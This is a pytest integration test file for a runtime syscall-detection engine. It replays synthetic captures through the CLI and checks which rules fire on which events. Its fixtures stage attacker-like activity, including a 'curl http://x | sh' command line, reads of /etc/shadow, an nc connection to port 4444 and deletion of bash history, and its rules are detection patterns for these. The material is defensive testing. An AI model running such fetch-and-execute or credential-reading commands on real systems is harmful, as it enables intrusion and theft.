"""The pipeline end to end through the CLI: capture -> replay -> state -> rules -> alerts.

Captures are built from driver records (the driver's own byte layout, from the generated
schema), so replay runs the same decoder as live capture. Each rule below exercises one
operator or one rule-language feature and must fire on exactly the events it names (by pid)
and on no others; helper unit tests cover the grammar itself.
"""

from __future__ import annotations

import json
import os
import struct
import subprocess
import sys
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

import pytest

from runtime.engine.capture import (
    AF_INET,
    CaptureHeader,
    CaptureReader,
    CaptureWriter,
    encode_record,
    encode_tuple,
)
from runtime.engine.sources import ReplaySource, schema_identity

BOOT_OFFSET = 1_750_000_000_000_000_000
O_WRONLY, O_CREAT = 0o1, 0o100


def rec(evt: str, pid: int, ret: int, comm: str, /, *, ppid: int = 1, uid: int = 1000,
        ts: int = 0, **params: object) -> bytes:
    return encode_record(evt, ts_boot_ns=ts or 1_000_000 + pid * 1000, ret=ret, pid=pid,
                         ppid=ppid, uid=uid, gid=uid, comm=comm, params=params)


StatsSpec = tuple[int, Mapping[int, Mapping[str, int]]]


def write_capture(path: Path, frames: Sequence[Sequence[bytes] | StatsSpec]) -> Path:
    api, schema_hash = schema_identity()
    writer = CaptureWriter(path, CaptureHeader(api, schema_hash, BOOT_OFFSET, {"test": True}))
    for frame in frames:
        if isinstance(frame, tuple):
            writer.write_stats(frame[0], frame[1])
        else:
            writer.write_events(b"".join(frame))
    writer.close()
    return path


def rt_engine(*args: str | Path, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "runtime.engine.cli", *map(str, args)],
        check=False, capture_output=True, text=True, timeout=timeout,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )


def alerts_by_rule(stdout: str) -> dict[str, set[int]]:
    fired: dict[str, set[int]] = {}
    for line in stdout.splitlines():
        doc = json.loads(line)
        fired.setdefault(doc["rule"], set()).add(doc["output_fields"].get("proc.pid"))
    return fired


# A small world: every actor has its own pid so each rule's hits are unambiguous.
WORLD = [
    # sshd (120) -> bash (121) -> ls (122), built with clone + execve so ancestry is stateful
    rec("execve", 120, 0, "sshd", filename="/usr/sbin/sshd", argv=["sshd", "-D"], cwd="/"),
    rec("clone", 120, 121, "sshd", flags=0x1200011),
    rec("clone", 121, 0, "sshd", ppid=120, flags=0x1200011),
    rec("execve", 121, 0, "bash", ppid=120, filename="/bin/bash",
        argv=["bash", "-c", "curl http://x | sh"], cwd="/root"),
    rec("clone", 121, 122, "bash", ppid=120, flags=0x1200011),
    rec("clone", 122, 0, "bash", ppid=121, flags=0x1200011),
    rec("execve", 122, 0, "ls", ppid=121, filename="/bin/ls", argv=["ls", "-la"], cwd="/root"),
    rec("openat", 122, 3, "ls", ppid=121, dirfd=-100, name="/etc/passwd", flags=0, mode=0),
    # cat reads /etc/shadow
    rec("openat", 101, 3, "cat", dirfd=-100, name="/etc/shadow", flags=0, mode=0),
    # vim writes a binary
    rec("openat", 102, 4, "vim", dirfd=-100, name="/usr/bin/evil", flags=O_WRONLY | O_CREAT,
        mode=0o755),
    # nc connects out
    rec("socket", 103, 5, "nc", domain=2, type=1, proto=0),
    rec("connect", 103, 0, "nc", fd=5, tuple=encode_tuple(AF_INET, "10.0.0.5", 40001,
                                                           "10.1.2.3", 4444)),
    # kernel module loads, one by an expected loader
    rec("finit_module", 105, 0, "insmod", fd=3, uargs="debug=1", flags=0),
    rec("finit_module", 106, 0, "modprobe", fd=3, uargs="", flags=0),
    # ptrace attach by a debugger and by something else
    rec("ptrace", 107, 0, "gdb", request=16, pid=122, addr=0, data=0),
    rec("ptrace", 108, 0, "evil", request=16, pid=122, addr=0, data=0),
    # a failed open
    rec("openat", 109, -2, "python3", dirfd=-100, name="/home/u/Secret.TXT", flags=0, mode=0),
    # history removal
    rec("unlinkat", 110, 0, "rm", dirfd=-100, name="/root/.bash_history", flags=0),
]

OPERATOR_RULES = """
- required_engine_version: 1
- list: sensitive_names
  items: [/etc/shadow, /etc/gshadow]
- list: module_loaders_t
  items: [modprobe]
- macro: sensitive_open
  condition: evt.type = openat and fd.name in (sensitive_names)
- macro: via_macro_chain
  condition: sensitive_open and evt.rawres >= 0

- rule: op_eq
  desc: =
  condition: evt.type = finit_module and proc.name = insmod
  output: "%proc.name %proc.pid"
  priority: NOTICE
- rule: op_ne
  desc: "!="
  condition: evt.type = openat and proc.name != cat and proc.name != vim and proc.name != ls
  output: "%proc.pid"
  priority: NOTICE
- rule: op_lt
  desc: <
  condition: evt.type = openat and evt.rawres < 0
  output: "%proc.pid"
  priority: NOTICE
- rule: op_le
  desc: <=
  condition: evt.type = openat and evt.rawres <= 3 and evt.rawres >= 0
  output: "%proc.pid"
  priority: NOTICE
- rule: op_gt
  desc: ">"
  condition: evt.type = openat and evt.rawres > 3
  output: "%proc.pid"
  priority: NOTICE
- rule: op_ge
  desc: ">="
  condition: evt.type = connect and fd.sport >= 4444
  output: "%proc.pid %fd.sport"
  priority: NOTICE
- rule: op_in
  desc: in
  condition: evt.type in (connect, finit_module) and proc.name in (nc, insmod)
  output: "%proc.pid"
  priority: NOTICE
- rule: op_intersects
  desc: intersects
  condition: evt.type = openat and proc.aname intersects (sshd, systemd)
  output: "%proc.pid %proc.aname[2]"
  priority: NOTICE
- rule: op_contains
  desc: contains
  condition: evt.type = execve and proc.cmdline contains "curl http"
  output: "%proc.pid %proc.cmdline"
  priority: NOTICE
- rule: op_icontains
  desc: icontains
  condition: evt.type = openat and fd.name icontains secret
  output: "%proc.pid %fd.name"
  priority: NOTICE
- rule: op_startswith
  desc: startswith
  condition: evt.type = openat and fd.name startswith /usr/bin/
  output: "%proc.pid"
  priority: NOTICE
- rule: op_endswith
  desc: endswith
  condition: evt.type = unlinkat and evt.arg.name endswith _history
  output: "%proc.pid"
  priority: NOTICE
- rule: op_glob
  desc: glob
  condition: evt.type = openat and fd.name glob "/etc/sh*w"
  output: "%proc.pid"
  priority: NOTICE
- rule: op_pmatch
  desc: pmatch
  condition: evt.type = openat and fd.name pmatch (/usr/bin, /opt)
  output: "%proc.pid"
  priority: NOTICE
- rule: op_exists
  desc: exists
  condition: evt.type = finit_module and evt.arg.uargs exists and evt.arg.uargs != ""
  output: "%proc.pid"
  priority: NOTICE
- rule: op_bcontains
  desc: bcontains ("/shadow" in hex)
  condition: evt.type = openat and fd.name bcontains 2f736861646f77
  output: "%proc.pid"
  priority: NOTICE
- rule: bool_logic
  desc: and/or/not/parentheses
  condition: >
    evt.type = openat and (proc.name = cat or proc.name = vim)
    and not (evt.rawres > 3 or fd.name = /nonexistent)
  output: "%proc.pid"
  priority: NOTICE
- rule: ancestry_index
  desc: proc.aname[N] and proc.pname through clone/execve state
  condition: evt.type = openat and proc.aname[2] = sshd and proc.pname = bash
  output: "%proc.pid %proc.aname[2] %proc.pname %proc.exe"
  priority: NOTICE
- rule: macro_and_list
  desc: nested macros over a list
  condition: via_macro_chain
  output: "%proc.pid"
  priority: WARNING
  tags: [credentials, filesystem]
- rule: with_exception
  desc: exceptions drop the debugger
  condition: evt.type = ptrace and evt.arg.request = PTRACE_ATTACH
  exceptions:
    - name: debuggers
      fields: [proc.name]
      values: [[gdb]]
  output: "%proc.pid"
  priority: NOTICE
- rule: appended
  desc: the condition is narrowed by an override below
  condition: evt.type = finit_module
  output: "%proc.pid"
  priority: NOTICE
- rule: appended
  condition: and not proc.name in (module_loaders_t)
  override:
    condition: append
- rule: disabled_rule
  desc: never fires
  condition: evt.type = openat
  output: "%proc.pid"
  priority: NOTICE
  enabled: false
- rule: debug_only
  desc: cut by --min-priority
  condition: evt.type = openat and proc.name = cat
  output: "%proc.pid"
  priority: DEBUG
"""

EXPECTED = {
    "op_eq": {105},
    "op_ne": {109},
    "op_lt": {109},
    "op_le": {101, 122},
    "op_gt": {102},
    "op_ge": {103},
    "op_in": {103, 105},
    "op_intersects": {122},
    "op_contains": {121},
    "op_icontains": {109},
    "op_startswith": {102},
    "op_endswith": {110},
    "op_glob": {101},
    "op_pmatch": {102},
    "op_exists": {105},
    "op_bcontains": {101},
    "bool_logic": {101},
    "ancestry_index": {122},
    "macro_and_list": {101},
    "with_exception": {108},
    "appended": {105},
    "debug_only": {101},
}


@pytest.fixture(scope="module")
def world_capture(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_capture(tmp_path_factory.mktemp("cap") / "world.rtcap", [WORLD])


@pytest.fixture(scope="module")
def operator_rules(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("rules") / "operators.yaml"
    path.write_text(OPERATOR_RULES)
    return path


def test_every_operator_fires_exactly_where_expected(world_capture: Path,
                                                     operator_rules: Path) -> None:
    result = rt_engine("run", "--replay", world_capture, "--rules", operator_rules, "--json")
    assert result.returncode == 0, result.stderr
    fired = alerts_by_rule(result.stdout)
    assert fired == EXPECTED, result.stderr


def test_min_priority_drops_lower_rules(world_capture: Path, operator_rules: Path) -> None:
    result = rt_engine("run", "--replay", world_capture, "--rules", operator_rules, "--json",
                       "--min-priority", "warning")
    assert result.returncode == 0, result.stderr
    assert alerts_by_rule(result.stdout) == {"macro_and_list": {101}}


def test_json_alert_fields_and_time_from_boot_offset(world_capture: Path,
                                                     operator_rules: Path) -> None:
    result = rt_engine("run", "--replay", world_capture, "--rules", operator_rules, "--json")
    docs = [json.loads(line) for line in result.stdout.splitlines()]
    glob_hit = next(d for d in docs if d["rule"] == "op_glob")
    assert glob_hit["source"] == "syscall"
    assert glob_hit["priority"] == "Notice"
    assert glob_hit["tags"] == []
    tagged = next(d for d in docs if d["rule"] == "macro_and_list")
    assert tagged["priority"] == "Warning"
    assert tagged["tags"] == ["credentials", "filesystem"]
    assert glob_hit["output_fields"]["proc.pid"] == 101
    # 1_000_000 + 101 * 1000 ns after boot, boot at BOOT_OFFSET (2025-06-15T15:06:40Z)
    assert glob_hit["time"] == "2025-06-15T15:06:40.001101000Z"
    ancestry = next(d for d in docs if d["rule"] == "ancestry_index")
    assert ancestry["output_fields"]["proc.aname[2]"] == "sshd"
    assert ancestry["output_fields"]["proc.exe"] == "ls"


def test_default_ruleset_on_replay(world_capture: Path) -> None:
    result = rt_engine("run", "--replay", world_capture, "--json")
    assert result.returncode == 0, result.stderr
    docs = [json.loads(line) for line in result.stdout.splitlines()]
    names: dict[str, set[str]] = {}
    for doc in docs:
        names.setdefault(doc["rule"], set()).add(doc["output_fields"].get("proc.name"))
    assert names == {
        "Sensitive file opened by untrusted program": {"cat"},
        "Write below binary directory": {"vim"},
        "Outbound connection by network tool or shell": {"nc"},
        "Kernel module loaded": {"insmod", "modprobe"},
        "Process attached with ptrace": {"evil"},
        "Shell history deleted or truncated": {"rm"},
    }
    sensitive = next(d for d in docs if d["rule"].startswith("Sensitive file"))
    assert sensitive["output_fields"]["fd.name"] == "/etc/shadow"
    assert sensitive["priority"] == "Warning"
    assert "rt-engine: events: 18" in result.stderr


def test_text_output_is_one_line_per_alert(world_capture: Path, operator_rules: Path) -> None:
    result = rt_engine("run", "--replay", world_capture, "--rules", operator_rules)
    lines = result.stdout.splitlines()
    assert len(lines) == sum(len(v) for v in EXPECTED.values())
    assert all(": Notice " in line or ": Warning " in line or ": Debug " in line
               for line in lines)


def test_recorded_stats_replay_the_drop_alert(tmp_path: Path) -> None:
    second = 1_000_000_000
    stats: Callable[[int, int], dict[int, dict[str, int]]] = lambda evts, drops: {  # noqa: E731
        0: {"n_evts": evts, "n_drops_buffer": drops, "n_drops_pf": 0, "n_drops_bug": 0},
        1: {"n_evts": evts, "n_drops_buffer": drops // 2, "n_drops_pf": 1 if drops else 0,
            "n_drops_bug": 0},
    }
    capture = write_capture(tmp_path / "drops.rtcap", [
        WORLD[:3], (BOOT_OFFSET + second, stats(1000, 0)),
        WORLD[3:], (BOOT_OFFSET + 2 * second, stats(3000, 800)),
    ])
    result = rt_engine("run", "--replay", capture, "--json", "--rules", tmp_path / "none.yaml")
    assert result.returncode != 0 and "none.yaml" in result.stderr  # missing rules file named
    (tmp_path / "none.yaml").write_text("- required_engine_version: 1\n")
    result = rt_engine("run", "--replay", capture, "--json", "--rules", tmp_path / "none.yaml")
    assert result.returncode == 0, result.stderr
    docs = [json.loads(line) for line in result.stdout.splitlines()]
    assert [d["rule"] for d in docs] == ["rt-engine internal: syscall event drop"]
    f = docs[0]["output_fields"]
    assert (f["n_evts"], f["n_drops"], f["n_drops_buffer"], f["n_drops_pf"]) == (
        4000, 1201, 1200, 1)
    assert f["drop_pct"] == pytest.approx(100 * 1201 / 4000)
    assert "syscall event drop monitoring" in result.stderr
    assert "dropped: 1201" in result.stderr


def test_simulate_drops_from_config(tmp_path: Path) -> None:
    capture = write_capture(tmp_path / "quiet.rtcap", [
        WORLD[:2], (BOOT_OFFSET + 10**9, {0: {"n_evts": 2}}),
    ])
    config = tmp_path / "engine.yaml"
    config.write_text("syscall_event_drops: {simulate_drops: true, actions: [alert]}\n"
                      "json_output: true\n")
    rules = tmp_path / "r.yaml"
    rules.write_text("- required_engine_version: 1\n")
    result = rt_engine("run", "--replay", capture, "--config", config, "--rules", rules)
    assert result.returncode == 0, result.stderr
    docs = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(docs) == 1 and docs[0]["output_fields"]["n_drops"] == 1


def test_capture_round_trip_keeps_raw_records(world_capture: Path) -> None:
    reader = CaptureReader(world_capture, expect_schema_hash=schema_identity()[1])
    frames = list(reader.frames())
    reader.close()
    assert frames == [b"".join(WORLD)]
    assert reader.header.boot_offset_ns == BOOT_OFFSET
    source = ReplaySource(world_capture)
    batch = source.read(0)
    assert batch is not None and len(batch.events) == len(WORLD)
    assert batch.events[8].params["name"] == "/etc/shadow"
    assert source.read(0) is None
    source.close()


def test_capture_of_another_schema_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "old.rtcap"
    writer = CaptureWriter(path, CaptureHeader(1, 0xDEADBEEF, 0, {}))
    writer.write_events(WORLD[0])
    writer.close()
    result = rt_engine("run", "--replay", path)
    assert result.returncode != 0
    assert "0x00000000deadbeef" in result.stderr and str(path) in result.stderr
    (tmp_path / "junk").write_bytes(b"not a capture at all")
    result = rt_engine("run", "--replay", tmp_path / "junk")
    assert result.returncode != 0 and "bad magic" in result.stderr


def _earlier_revision_record(record: bytes, keep: int) -> bytes:
    """A record as a driver of an earlier schema revision wrote it: its first `keep`
    params only (the revision lacked the rest), header count and length to match."""
    from runtime.driver import _schema
    from runtime.driver.schema import HDR

    fields = list(HDR.unpack_from(record))
    names = list(_schema.HDR_FIELDS)
    nparams = fields[names.index("nparams")]
    lens = struct.unpack_from(f"={nparams}H", record, HDR.size)
    at = HDR.size + 2 * nparams
    body = struct.pack(f"={keep}H", *lens[:keep]) + record[at : at + sum(lens[:keep])]
    fields[names.index("nparams")] = keep
    fields[names.index("len")] = HDR.size + len(body)
    out = HDR.pack(*fields) + body
    return out + bytes(-len(out) % 8)


EXEPATH_RULE = """
- rule: exec_path
  desc: proc.exepath of every exec
  condition: evt.type in (execve, execveat) and evt.rawres = 0
  output: "%proc.exepath %evt.arg.filename"
  priority: NOTICE
"""


def test_capture_of_the_revision_before_trusted_exepath_replays(tmp_path: Path) -> None:
    """A capture recorded before the drivers sent the exe file's path (schema
    0x6ac4a0ed0c144bbe: execve/execveat without trusted_exepath) still replays, and
    proc.exepath falls back to the path exec was given, against the cwd; a capture of
    this revision shows the driver's path (a memfd's, a symlink's target) instead."""
    from runtime.driver import _schema
    from runtime.driver.schema import EVENT_IDS, SPECS

    def execs(trusted: bool) -> list[bytes]:
        recs = [
            rec("execve", 300, 0, "true", filename="bin/true", argv=["true"], cwd="/usr",
                trusted_exepath="/usr/bin/true" if trusted else None),
            rec("execveat", 301, 0, "3", dirfd=3, filename="/dev/fd/3", argv=["x"],
                cwd="/root", at_flags=0x1000,
                trusted_exepath="/memfd:rt-test-memfd (deleted)" if trusted else None),
        ]
        if trusted:
            return recs
        return [_earlier_revision_record(r, SPECS[EVENT_IDS[e]].min_params)
                for r, e in zip(recs, ("execve", "execveat"), strict=True)]

    rules = tmp_path / "rules.yaml"
    rules.write_text(EXEPATH_RULE)
    old_hash = 0x6AC4A0ED0C144BBE
    assert old_hash in _schema.EARLIER_SCHEMA_HASHES
    seen = {}
    for trusted, schema_hash in ((False, old_hash), (True, schema_identity()[1])):
        path = tmp_path / f"capture-{trusted}.rtcap"
        writer = CaptureWriter(path, CaptureHeader(1, schema_hash, BOOT_OFFSET, {}))
        writer.write_events(b"".join(execs(trusted)))
        writer.close()
        result = rt_engine("run", "--replay", path, "--rules", rules, "--json")
        assert result.returncode == 0, result.stderr
        seen[trusted] = {json.loads(line)["output_fields"]["proc.exepath"]
                         for line in result.stdout.splitlines()}
    # Before: the given path (the fd's /dev/fd/N alias for the memfd). Now: the file's.
    assert seen[False] == {"/usr/bin/true", "/dev/fd/3"}
    assert seen[True] == {"/usr/bin/true", "/memfd:rt-test-memfd (deleted)"}


def test_damaged_frame_is_one_clear_error(tmp_path: Path) -> None:
    good = WORLD[8]
    damaged = good[:24] + (9999).to_bytes(4, "little") + good[28:]  # length past the end
    capture = write_capture(tmp_path / "damaged.rtcap", [[damaged]])
    result = rt_engine("run", "--replay", capture)
    assert result.returncode != 0
    assert str(capture) in result.stderr and "Traceback" not in result.stderr


def test_driver_filter_is_what_rules_and_state_need() -> None:
    from runtime.engine.cli import _needed_event_types, default_rules_path
    from runtime.engine.rules import load_rules
    from runtime.engine.sources import filter_syscalls, syscalls_for_event_types

    needed = _needed_event_types(load_rules([default_rules_path()]))
    assert needed is not None
    syscalls = filter_syscalls(needed)
    # rules: module loads, ptrace; state: exec/clone/open/close/procexit
    for name in ("finit_module", "init_module", "ptrace", "execve", "clone", "openat",
                 "close", "procexit", "connect"):
        assert name in syscalls, name
    for name in ("read", "write", "getppid", "mmap"):
        assert name not in syscalls, name
    # one event type can stand for several syscalls
    assert syscalls_for_event_types(frozenset({"exit", "procexit", "write"})) == {
        "exit", "exit_group", "procexit", "write"}


def test_proc_snapshot_seeds_replay_state(tmp_path: Path) -> None:
    from runtime.engine.capture import snapshot_proc
    from runtime.engine.state import SystemState

    api, schema_hash = schema_identity()
    path = tmp_path / "snap.rtcap"
    writer = CaptureWriter(path, CaptureHeader(api, schema_hash, BOOT_OFFSET, {}))
    writer.write_procs(snapshot_proc())
    writer.write_events(b"".join(WORLD))
    writer.close()
    source = ReplaySource(path)
    state = SystemState()
    assert source.seed_state(state) > 0
    me = state.thread(os.getpid())
    assert me is not None and me.ppid == os.getppid()
    assert me.exepath == os.path.realpath(f"/proc/{os.getpid()}/exe")
    batch = source.read(0)  # the snapshot frame is consumed, events follow
    assert batch is not None and len(batch.events) == len(WORLD)
    source.close()


def test_exit_action_stops_the_engine_with_its_exit_code(tmp_path: Path) -> None:
    from runtime.engine.drops import SyscallDropExitError

    capture = write_capture(tmp_path / "d.rtcap", [
        WORLD[:2], (BOOT_OFFSET + 10**9, {0: {"n_evts": 100, "n_drops_buffer": 50}}),
        WORLD[2:],
    ])
    config = tmp_path / "engine.yaml"
    config.write_text("syscall_event_drops: {actions: [log, exit]}\n")
    result = rt_engine("run", "--replay", capture, "--config", config, "--json")
    assert result.returncode == SyscallDropExitError.exit_code
    assert "50 system calls dropped" in result.stderr
    assert "syscall event drop monitoring" in result.stderr  # the summary still printed
    assert result.stderr.rstrip().splitlines()[-1].startswith("rt-engine: error:")
    assert "rt-engine: events: 2," in result.stderr  # stopped at the stats frame
